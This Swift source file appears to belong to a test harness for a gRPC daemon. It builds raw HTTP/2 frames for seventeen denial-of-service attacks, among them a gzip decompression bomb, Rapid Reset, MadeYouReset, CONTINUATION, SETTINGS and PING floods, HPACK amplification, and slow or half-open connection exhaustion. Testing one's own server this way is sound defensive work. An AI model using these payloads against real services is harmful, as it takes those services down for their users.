import RawCalls
import UnixGRPC

/// What an attacker does to a daemon, by bytes alone: it has no role there.
enum AttackKind: String, CaseIterable, Sendable {
  case inflation
  case halfSentMessages
  case unreadAnswers
  case connectAndClose
  case descriptors
  case headerReferences
  case emptyData
  case oneByteData
  case goAwayFlood
  case rapidReset
  case madeYouReset
  case continuationFlood
  case settingsFlood
  case pingFlood
  case zeroWindow
  case slowPreface
  case halfOpen

  private static let path = "/grpc.health.v1.Health/Check"

  private static func stream(_ call: Int) -> UInt32 { UInt32(2 * call + 1) }

  private static func call(_ number: Int, adding fields: [(String, String)] = [], ends: Bool = false) -> [UInt8] {
    RawCaller.headers(stream(number), path: path, adding: fields, ends: ends)
  }

  /// 4 MiB in 4 KB.
  private static let bomb = RawCaller.message(
    GzipCodec().compress([UInt8](repeating: 0x78, count: 4 << 20)),
    isCompressed: true
  )
  /// A window's worth of a message of 4 MiB.
  private static let windowful: [UInt8] = [0, 0, 0x40, 0, 0] + [UInt8](repeating: 0x78, count: 256 * 1024 - 5)

  /// How it goes about.
  var tactic: Tactic {
    switch self {
    case .inflation:
      .flood(opening: RawCaller.preface) { call in
        Self.call(call, adding: [("grpc-encoding", "gzip")]) + RawCaller.frame(0, 1, Self.stream(call), Self.bomb)
      }
    case .halfSentMessages:
      .hold { _ in
        RawCaller.preface
          + (0..<16).flatMap { Self.call($0) + RawCaller.data(Self.stream($0), Self.windowful) }
      }
    case .unreadAnswers: .flood(opening: RawCaller.preface, reads: false) { Self.call($0, ends: true) }
    case .connectAndClose: .connectAndClose
    case .descriptors: .hold { _ in RawCaller.preface }
    case .headerReferences:
      .flood(
        opening: RawCaller.preface
          + RawCaller.frame(1, 5, 1, [0x40, 1, 0x78, 0x7F, 0xBD, 0x1D] + [UInt8](repeating: 0x78, count: 3900))
      ) { RawCaller.frame(1, 5, Self.stream($0 + 1), [UInt8](repeating: 0xBE, count: 16_000)) }
    case .emptyData: .flood(opening: RawCaller.preface + Self.call(0)) { _ in RawCaller.frame(0, 0, 1, []) }
    case .oneByteData: .flood(opening: RawCaller.preface + Self.call(0)) { _ in RawCaller.frame(0, 0, 1, [0]) }
    case .goAwayFlood:
      .flood(opening: RawCaller.preface) { _ in RawCaller.frame(7, 0, 0, [UInt8](repeating: 0, count: 8)) }
    case .rapidReset:
      .flood(opening: RawCaller.preface) { Self.call($0) + RawCaller.frame(3, 0, Self.stream($0), [0, 0, 0, 8]) }
    case .madeYouReset:
      // A window update by nothing is an error of the stream.
      .flood(opening: RawCaller.preface) { Self.call($0) + RawCaller.frame(8, 0, Self.stream($0), [0, 0, 0, 0]) }
    case .continuationFlood:
      .flood(opening: RawCaller.preface + RawCaller.frame(1, 0, 1, [])) { _ in RawCaller.frame(9, 0, 1, []) }
    case .settingsFlood: .flood(opening: RawCaller.preface) { _ in RawCaller.frame(4, 0, 0, [0, 4, 0, 1, 0, 0]) }
    case .pingFlood:
      .flood(opening: RawCaller.preface) { _ in RawCaller.frame(6, 0, 0, [UInt8](repeating: 7, count: 8)) }
    case .zeroWindow:
      .flood(opening: RawCaller.preface + RawCaller.frame(4, 0, 0, [0, 4, 0, 0, 0, 0]), reads: false) {
        Self.call($0, ends: true)
      }
    case .slowPreface: .trickle(RawCaller.preface)
    case .halfOpen:
      .hold { _ in RawCaller.preface + (0..<1000).flatMap { Self.call($0, adding: [("x", "half")]) } }
    }
  }
}

/// How an attack is made.
enum Tactic {
  /// The bytes of `burst` again and again on one connection, and on another when it is cut.
  ///
  /// - Parameters:
  ///   - reads: Whether it takes what the daemon answers.
  ///   - burst: Given the number of the burst on its connection.
  case flood(opening: [UInt8], reads: Bool = true, burst: (Int) -> [UInt8])
  /// As many connections as it gets, each with these first bytes, kept open.
  case hold(opening: (Int) -> [UInt8])
  case connectAndClose
  /// As many connections as it gets, with a byte each now and then.
  case trickle([UInt8])
}
